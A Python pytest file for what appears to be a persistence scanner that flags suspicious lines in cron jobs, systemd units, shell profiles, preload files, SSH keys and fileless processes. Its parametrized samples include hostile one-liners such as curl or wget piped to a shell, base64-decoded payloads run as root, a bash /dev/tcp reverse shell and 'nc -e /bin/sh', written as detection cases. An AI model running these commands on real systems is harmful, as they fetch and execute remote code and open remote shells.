"""What is remarkable in start-up places is said, and what is usual is not."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))

from memory_children import from_memory, program, sleeping

from tocsin.protect.startup.place import Kind, Place
from tocsin.protect.startup.tree import Tree
from tocsin.protect.startup_places import StartupPlaces
from tocsin.protect.startup_remarks import Standing, remarks

USUAL = Standing(0o100644, 0, 0o040755, 0)


def said(text: str = "", kind: Kind = Kind.CRON, path: str = "/etc/x", uid: int = 0) -> list[str]:
    return list(remarks(Place(path, kind, uid, text=text), USUAL))


@pytest.mark.parametrize(
    "line",
    [
        "* * * * * root curl -s http://a/b | sh",
        "* * * * * wget -qO- http://a/b |  bash -s x",
        "* * * * * root curl http://a | base64 -d | sudo /usr/bin/python3 -",
        "* * * * * root bash <(curl -s http://a)",
        '* * * * * root sh -c "$(curl -fsSL http://a)"',
        "* * * * * root eval `wget -qO- http://a`",
        "* * * * * root wget http://a -O /tmp/x && chmod +x /tmp/x && /tmp/x",
        "* * * * * root curl -o /tmp/y http://a; sh /tmp/y",
        "* * * * * root echo aGk= | base64 -d | sh",
        "* * * * * root bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "* * * * * root nc -e /bin/sh 10.0.0.1 99",
    ],
)
@pytest.mark.parametrize("kind", [Kind.CRON, Kind.UNIT, Kind.SHELL, Kind.AUTOSTART])
def test_lines_that_few_honest_files_have(line: str, kind: Kind) -> None:
    (remark,) = said(f"# {line}\n{line}\n", kind)
    assert line[:60] in remark
    assert said(f"# {line}\n", kind) == []


@pytest.mark.parametrize(
    "line",
    [
        "* * * * * root curl -s http://a/b >/dev/null",
        "* * * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
        "* * * * * root wget -q http://a/b -O /srv/b",
        "* * * * * root tar c / | sh /usr/local/bin/receive",
        "* * * * * root base64 -d /a > /b",
        "* * * * * root /usr/bin/fetchmail | mail root",
        "# curl http://a | sh",
    ],
)
def test_lines_that_honest_files_have(line: str) -> None:
    assert said(line) == []


def test_the_loader_and_keys() -> None:
    assert said("# none\n", Kind.LOADER, "/etc/ld.so.preload") == []
    assert said("/lib/a.so /lib/b.so", Kind.LOADER, "/etc/ld.so.preload") == [
        "every program is made to load /lib/a.so /lib/b.so"
    ]
    assert said("/usr/lib/x", Kind.LOADER, "/etc/ld.so.conf") == []
    assert said("export LD_PRELOAD=/tmp/a.so:/b.so\n", Kind.SHELL) == [
        "programs are made to load /tmp/a.so /b.so"
    ]
    keys = '# command="no" ssh-rsa A\nno-pty,command="echo \\"hi\\"" ssh-rsa A b\nssh-rsa A c\n'
    assert said(keys, Kind.SSH) == ['a key that is bound to a command: echo "hi"']


@pytest.mark.parametrize(
    ("standing", "uid", "words"),
    [
        (USUAL, 0, ""),
        (Standing(0o100646, 0, 0o040755, 0), 0, "everybody may write"),
        (Standing(0o100644, 0, 0o040777, 0), 0, "everybody may put another"),
        (Standing(0o100644, 0, 0o041777, 0), 0, ""),
        (Standing(0o100644, 1000, 0o040755, 0), 0, "user 1000 owns it"),
        (Standing(0o100644, 0, 0o040755, 1000), 0, "user 1000 owns its folder"),
        (Standing(0o100644, 1000, 0o040755, 1000), 1000, ""),
        (Standing(0o100644, 0, 0o040755, 1000), 1000, ""),
        (Standing(0o100644, 1001, 0o040755, 1000), 1000, "user 1001 owns it"),
    ],
)
def test_who_may_change_it(standing: Standing, uid: int, words: str) -> None:
    found = list(remarks(Place("/etc/systemd/system/a.service", Kind.UNIT, uid), standing))
    assert len(found) == bool(words)
    assert words in "".join(found)


@pytest.mark.parametrize("folder", ["/tmp", "/var/tmp", "/dev/shm"])
def test_what_is_started_from_where_everybody_writes(folder: str) -> None:
    (remark,) = said(kind=Kind.PROGRAM, path=f"{folder}/x/y")
    assert "everybody may put files" in remark


def test_a_module_without_a_file() -> None:
    place = Place("kernel module ghost", Kind.MODULE, note="loaded, and no file is known")
    assert list(remarks(place, None)) == ["loaded, and no file is known"]
    assert list(remarks(place._replace(note="loaded"), None)) == []


def test_running_programs_without_a_file(tmp_path: Path) -> None:
    path = program(tmp_path)
    with sleeping(path) as deleted, from_memory(path) as hidden, sleeping(path) as usual:
        path.rename(tmp_path / "away")
        (tmp_path / "away").unlink()
        found = {
            place.path: "".join(remarks(place, None))
            for place in StartupPlaces(Tree("/")).processes()
        }
    assert "deleted or replaced" in found[f"/proc/{deleted.pid}/exe"]
    assert "never had a file" in found[f"/proc/{hidden.pid}/exe"]
    assert f"/proc/{usual.pid}/exe" in found
    assert f"/proc/{os.getpid()}/exe" not in found
